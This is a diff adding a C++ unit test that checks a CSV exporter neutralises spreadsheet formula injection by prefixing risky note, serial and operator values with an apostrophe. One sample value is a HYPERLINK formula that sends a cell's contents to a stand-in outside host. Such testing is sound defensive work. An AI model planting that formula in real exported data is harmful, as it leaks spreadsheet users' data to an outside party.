@@ -84,6 +84,29 @@ TEST_F(RunCsvTest, TheHeaderIsTheFirstLineAndANoteRoundTrips) {
   EXPECT_EQ(csv.find('#'), std::string::npos) << "no comment lines unless asked";
 }
 
+// A note, serial or operator a spreadsheet would run as a formula is written as text: an
+// apostrophe before it, in quotes. A text that only contains such a character stays as it is.
+TEST_F(RunCsvTest, TextThatLooksLikeAFormulaIsWrittenAsText) {
+  RunRecord record = testing::sample_run("intake_flat", 1, "grinder-1", "2026-11-22T02:34:44Z", 5.0);
+  record.note = "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")";
+  record.serial = "+49 123";
+  record.operator_name = "@anna";
+  const std::int64_t id = insert(record);
+  const std::vector<CsvRecord> rows = records_of(run_csv(load(id)));
+  ASSERT_EQ(rows.size(), 361u);
+  EXPECT_EQ(rows[1][column(rows[0], "note")], "'" + record.note);
+  EXPECT_EQ(rows[1][column(rows[0], "serial")], "'+49 123");
+  EXPECT_EQ(rows[1][column(rows[0], "operator")], "'@anna");
+  for (const std::string& text : {std::string("-3 um low"), std::string("\tindented")}) {
+    record.note = text;
+    record.serial = "CS-1=2";
+    const std::vector<CsvRecord> again = records_of(run_csv(load(insert(record))));
+    ASSERT_EQ(again.size(), 361u);
+    EXPECT_EQ(again[1][column(again[0], "note")], "'" + text);
+    EXPECT_EQ(again[1][column(again[0], "serial")], "CS-1=2") << "an = inside is no formula";
+  }
+}
+
 TEST_F(RunCsvTest, APrunedRunKeepsItsColumnsWithEmptyFields) {
   const std::int64_t id = insert(testing::sample_run("intake_flat", 1, "grinder-1", "2026-11-22T02:34:44Z", 5.0));
   const std::vector<CsvRecord> before = records_of(run_csv(load(id)));
